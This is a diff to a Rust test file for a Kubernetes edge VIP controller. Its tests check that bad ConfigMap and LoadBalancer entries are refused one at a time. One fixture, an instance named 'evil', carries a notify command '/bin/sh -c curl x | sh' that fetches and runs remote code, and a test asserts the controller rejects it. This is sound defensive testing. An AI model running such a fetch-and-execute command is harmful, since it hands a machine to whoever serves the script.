@@ -38,7 +38,13 @@ fn settings(me: &str) -> Settings {
         lb: None,
         forwarding: false,
         proxy_header: edgevip_forward::ProxyHeader::V1,
+        trust: Default::default(),
     }
+}
+
+/// The lab's link: the node subnet, and a second one for LoadBalancer pools.
+fn eth0() -> NodeLink {
+    NodeLink::named("eth0", &["192.0.2.11/24", "2001:db8::11/64"])
 }
 
 fn cluster() -> Vec<NodeInfo> {
@@ -59,8 +65,18 @@ fn source(pairs: &[(&str, &str)]) -> Source {
     }
 }
 
+/// RICH's `pinned` entry picks its interface and a VIP on that interface's subnet: the
+/// DaemonSet opted in (`--allow-configmap-interfaces`, `--vip-ranges`).
+fn wide(me: &str) -> Settings {
+    let mut s = settings(me);
+    s.trust.configmap.interfaces = true;
+    s.trust.vip_ranges =
+        crate::trust::Cidr::parse_list("192.0.2.0/24,2001:db8::/64,198.51.100.0/24").unwrap();
+    s
+}
+
 fn build(b: &mut Builder, me: &str, src: &Source) -> Desired {
-    b.build(&settings(me), &cluster(), Some("eth0"), Some(src), &[])
+    b.build(&wide(me), &cluster(), &eth0(), Some(src), &[])
 }
 
 #[test]
@@ -239,7 +255,7 @@ fn nodes_change_peers_and_priorities_but_nothing_else() {
     let before = build(&mut b, "edge-b", &src);
     let mut nodes = cluster();
     nodes.push(node("edge-d", &["192.0.2.200"]));
-    let after = b.build(&settings("edge-b"), &nodes, Some("eth0"), Some(&src), &[]);
+    let after = b.build(&settings("edge-b"), &nodes, &eth0(), Some(&src), &[]);
     let (x, y) = (&before.instances[0], &after.instances[0]);
     assert_eq!(y.unicast_peers.len(), 3);
     assert_eq!(
@@ -257,7 +273,7 @@ fn not_an_edge_node_or_no_configmap_serves_nothing() {
     let d = build(&mut Builder::default(), "worker-1", &src);
     assert!(d.instances.is_empty());
     assert!(d.rejects[0].message.contains("not among the edge nodes"));
-    let d = Builder::default().build(&settings("edge-a"), &cluster(), Some("eth0"), None, &[]);
+    let d = Builder::default().build(&settings("edge-a"), &cluster(), &eth0(), None, &[]);
     assert_eq!(d, Desired::default());
 }
 
@@ -283,7 +299,7 @@ fn load_balancer_services_become_one_instance_even_without_a_configmap() {
     let d = Builder::default().build(
         &s,
         &cluster(),
-        Some("eth0"),
+        &eth0(),
         None,
         &[svc("a", &["198.51.100.15"]), svc("b", &[])],
     );
@@ -298,7 +314,7 @@ fn load_balancer_services_become_one_instance_even_without_a_configmap() {
     );
     assert_eq!(d.lb.writes.len(), 1, "b's allocation is to be recorded");
     assert!(!d.writer, "edge-c (192.0.2.9) writes, not edge-a");
-    let d = Builder::default().build(&s, &cluster(), Some("eth0"), None, &[]);
+    let d = Builder::default().build(&s, &cluster(), &eth0(), None, &[]);
     assert!(d.instances.is_empty());
 }
 
@@ -319,4 +335,198 @@ fn cluster_defaults_meet_the_files_rules() {
         d.rejects[0].message,
         "edgevip.yaml: instances[0].advert_interval: 200ms is not whole seconds (VRRPv2 counts seconds)"
     );
+}
+
+fn lb_settings(me: &str) -> Settings {
+    let mut s = settings(me);
+    s.lb = Some(crate::services::LbSettings {
+        class: crate::services::DEFAULT_CLASS.into(),
+        default_class: false,
+        pool: crate::services::Pool::parse("192.0.2.10-192.0.2.12,192.0.2.200-192.0.2.210")
+            .unwrap(),
+        vrid: 51,
+    });
+    s
+}
+
+fn lb_svc(name: &str, created: &str, wanted: Option<&str>, status: &[&str]) -> SvcInfo {
+    SvcInfo {
+        namespace: "web".into(),
+        name: name.into(),
+        created: created.into(),
+        load_balancer: true,
+        class: Some(crate::services::DEFAULT_CLASS.into()),
+        wanted: wanted.map(|w| w.parse().map_err(|_| format!("{w:?} is not an IP address"))),
+        status: status.iter().map(|x| x.parse().unwrap()).collect(),
+        pending: None,
+    }
+}
+
+fn served(d: &Desired, instance: &str) -> Vec<String> {
+    d.instances
+        .iter()
+        .filter(|i| i.name == instance)
+        .flat_map(|i| i.vips.iter().map(|v| v.addr.to_string()))
+        .collect()
+}
+
+#[test]
+fn one_bad_compat_key_is_refused_alone() {
+    let src = source(&[
+        ("192.0.2.100", ""),
+        ("fe80::1", ""),
+        ("127.0.0.1", ""),
+        ("192.0.2.12", ""),
+        ("198.51.100.7", ""),
+        ("192.0.2.101", "default/web"),
+    ]);
+    let d = Builder::default().build(&settings("edge-a"), &cluster(), &eth0(), Some(&src), &[]);
+    assert_eq!(served(&d, COMPAT_INSTANCE), ["192.0.2.100", "192.0.2.101"]);
+    let fields: Vec<&str> = d.rejects.iter().map(|r| r.field.as_str()).collect();
+    assert_eq!(
+        fields,
+        [
+            "data[\"127.0.0.1\"]",
+            "data[\"192.0.2.12\"]",
+            "data[\"198.51.100.7\"]",
+            "data[\"fe80::1\"]",
+        ],
+        "{:?}",
+        d.rejects
+    );
+    assert!(d.rejects[1].message.contains("a node's address"));
+}
+
+#[test]
+fn a_generated_instance_that_cannot_take_a_vip_loses_only_that_vip() {
+    // Whatever the cause (here a VIP past the fence that the file's rules refuse), the
+    // VIP is refused alone, with the entry that asked for it.
+    let (s, nodes) = (settings("edge-a"), cluster());
+    let ctx = Ctx::new(&s, &nodes, &nodes[0], &eth0());
+    let ip = |x: &str| x.parse::<IpAddr>().unwrap();
+    let c = Candidate::generated(
+        "services",
+        LB_INSTANCE,
+        51,
+        From::Services,
+        vec![
+            (ip("192.0.2.200"), "Service web/a".into()),
+            (ip("127.0.0.1"), "Service web/b".into()),
+            (ip("192.0.2.201"), "Service web/c".into()),
+        ],
+    );
+    let mut d = Desired::default();
+    Builder::default().accept(&ctx, c, 0, false, "x", &mut d);
+    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.200", "192.0.2.201"]);
+    assert_eq!(d.rejects.len(), 1, "{:?}", d.rejects);
+    assert_eq!(d.rejects[0].field, "Service web/b");
+    assert!(d.rejects[0].message.starts_with("refused alone: "));
+}
+
+#[test]
+fn the_configmap_carrying_commands_is_refused_entry_by_entry() {
+    let doc = "instances:\n  - {name: web, vrid: 61, vips: [192.0.2.120/24]}\n  - {name: evil, vrid: 62, vips: [192.0.2.121/24], notify: [/bin/sh, -c, 'curl x | sh']}\n  - {name: probe, vrid: 63, vips: [192.0.2.122/24], health_checks: [{exec: [/bin/true]}]}\n  - {name: far, vrid: 64, vips: [203.0.113.10/24]}\n";
+    let src = source(&[(rich::KEY, doc), ("192.0.2.100", "")]);
+    let d = Builder::default().build(&settings("edge-a"), &cluster(), &eth0(), Some(&src), &[]);
+    let names: Vec<&str> = d.instances.iter().map(|i| i.name.as_str()).collect();
+    assert_eq!(names, ["vips", "web"]);
+    let notes: Vec<String> = d
+        .rejects
+        .iter()
+        .map(|r| format!("{}: {}", r.field, r.message))
+        .collect();
+    assert_eq!(notes.len(), 3, "{notes:#?}");
+    assert!(
+        notes[0].contains("instances[1].notify") && notes[0].contains("curl x | sh"),
+        "{notes:#?}"
+    );
+    assert!(
+        notes[1].contains("instances[2].health_checks[0].exec"),
+        "{notes:#?}"
+    );
+    assert!(
+        notes[2].contains("instances[3].vips[0]: refused: 203.0.113.10 is outside"),
+        "{notes:#?}"
+    );
+    // The DaemonSet opting in lets them through.
+    let mut s = settings("edge-a");
+    s.trust.configmap.exec = true;
+    let d = Builder::default().build(&s, &cluster(), &eth0(), Some(&src), &[]);
+    assert_eq!(d.instances.len(), 4, "{:?}", d.rejects);
+}
+
+#[test]
+fn bad_load_balancer_requests_are_refused_alone_and_live_vips_win() {
+    let s = lb_settings("edge-a");
+    let services = [
+        lb_svc("old", "1", None, &["192.0.2.200"]),
+        lb_svc("loopback", "2", Some("127.0.0.1"), &[]),
+        lb_svc("node", "3", Some("192.0.2.12"), &[]),
+        lb_svc("outside", "4", Some("203.0.113.7"), &[]),
+        // Older than `old` but asks for its live VIP: refused, `old` keeps it.
+        lb_svc("thief", "0", Some("192.0.2.200"), &[]),
+        lb_svc("ok", "5", Some("192.0.2.205"), &[]),
+        lb_svc("fresh", "6", None, &[]),
+    ];
+    let d = Builder::default().build(&s, &cluster(), &eth0(), None, &services);
+    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.200", "192.0.2.205"]);
+    let p = &d.lb.problems;
+    assert!(p["web/loopback"].contains("127.0.0.1 is loopback"), "{p:?}");
+    assert!(
+        p["web/node"].contains("192.0.2.12 is a node's address"),
+        "{p:?}"
+    );
+    assert!(
+        p["web/outside"].contains("203.0.113.7 is not in the address pool"),
+        "{p:?}"
+    );
+    assert!(
+        p["web/thief"].contains("already the VIP of another Service"),
+        "{p:?}"
+    );
+    // The pool's .10-.12 hold node addresses: allocation skips them.
+    assert_eq!(d.lb.writes["web/fresh"].to_string(), "192.0.2.10");
+    assert_eq!(d.lb.serving.len(), 2);
+}
+
+#[test]
+fn a_vrid_clash_refuses_the_newer_instance_never_the_serving_one() {
+    let s = lb_settings("edge-a");
+    let rich51 = source(&[(
+        rich::KEY,
+        "instances:\n  - {name: ingress, vrid: 51, vips: [192.0.2.150/24]}\n",
+    )]);
+    let svc = [lb_svc("front", "1", None, &["192.0.2.201"])];
+    // The rich instance serves first; a Service then makes the LB instance on --lb-vrid 51.
+    let mut b = Builder::default();
+    let d = b.build(&s, &cluster(), &eth0(), Some(&rich51), &[]);
+    assert_eq!(served(&d, "ingress"), ["192.0.2.150"]);
+    let d = b.build(&s, &cluster(), &eth0(), Some(&rich51), &svc);
+    assert_eq!(served(&d, "ingress"), ["192.0.2.150"], "{:?}", d.rejects);
+    assert!(served(&d, LB_INSTANCE).is_empty());
+    let r = d
+        .rejects
+        .iter()
+        .find(|r| r.field == "instance \"loadbalancers\"")
+        .unwrap();
+    assert!(
+        r.message.contains("--lb-vrid") && r.message.contains("instance \"ingress\""),
+        "{r:?}"
+    );
+    assert!(
+        d.lb.problems["web/front"].contains("192.0.2.201 is not served"),
+        "{:?}",
+        d.lb.problems
+    );
+    // The other way round: the LB instance serves, an edit adds a rich instance on 51.
+    let mut b = Builder::default();
+    let d = b.build(&s, &cluster(), &eth0(), None, &svc);
+    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.201"]);
+    let d = b.build(&s, &cluster(), &eth0(), Some(&rich51), &svc);
+    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.201"]);
+    assert!(served(&d, "ingress").is_empty());
+    assert_eq!(d.rejects[0].field, "instance \"ingress\"");
+    // A fresh start with both: the ConfigMap's instance wins over the Services'.
+    let d = Builder::default().build(&s, &cluster(), &eth0(), Some(&rich51), &svc);
+    assert_eq!(served(&d, "ingress"), ["192.0.2.150"]);
 }
